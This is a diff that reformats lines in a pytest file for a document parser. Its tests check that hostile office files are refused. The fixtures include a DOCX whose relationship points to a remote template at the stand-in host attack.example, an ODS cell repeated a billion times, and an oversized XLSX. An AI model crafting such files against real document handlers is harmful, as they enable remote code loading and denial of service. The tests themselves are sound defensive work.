@@ -63,7 +63,9 @@ def _remote_template(path: Path) -> Path:
         '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" '
         'Target="http://attack.example/t.dotm" TargetMode="External"/></Relationships>'
     )
-    return _zip(path, {"word/document.xml": _DOCUMENT.encode(), "word/_rels/settings.xml.rels": relation.encode()})
+    return _zip(
+        path, {"word/document.xml": _DOCUMENT.encode(), "word/_rels/settings.xml.rels": relation.encode()}
+    )
 
 
 @pytest.mark.parametrize(
@@ -88,7 +90,9 @@ def test_hostile_archive_is_refused(tmp_path: Path, make: Callable[[Path], Path]
 
 
 def test_ods_repeating_a_cell_a_billion_times_is_refused(tmp_path: Path) -> None:
-    cell = '<table:table-cell table:number-columns-repeated="1000000000"><text:p>x</text:p></table:table-cell>'
+    cell = (
+        '<table:table-cell table:number-columns-repeated="1000000000"><text:p>x</text:p></table:table-cell>'
+    )
     body = f"<office:spreadsheet><table:table><table:table-row>{cell}</table:table-row></table:table></office:spreadsheet>"
     path = builders.write_odf(tmp_path / "a.ods", body, kind="spreadsheet")
 
@@ -113,7 +117,9 @@ def test_xlsx_reaching_the_last_cell_is_refused(tmp_path: Path) -> None:
     with zipfile.ZipFile(path) as archive:
         members = {name: archive.read(name) for name in archive.namelist()}
     name = "xl/worksheets/sheet1.xml"
-    members[name] = members[name].replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')
+    members[name] = members[name].replace(
+        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
+    )
 
     with pytest.raises(UnreadableDocument, match="millions de cellules"):
         open_document(_zip(tmp_path / "b.xlsx", members))
@@ -134,7 +140,9 @@ def test_xlsx_reaching_the_last_cell_is_refused(tmp_path: Path) -> None:
         ("a.xlsx", b"PK\x05\x06" + b"\x00" * 18, "ni un DOCX"),
     ],
 )
-def test_file_that_is_not_what_it_says_is_refused(tmp_path: Path, name: str, content: bytes, message: str) -> None:
+def test_file_that_is_not_what_it_says_is_refused(
+    tmp_path: Path, name: str, content: bytes, message: str
+) -> None:
     path = tmp_path / name
     path.write_bytes(content)
 
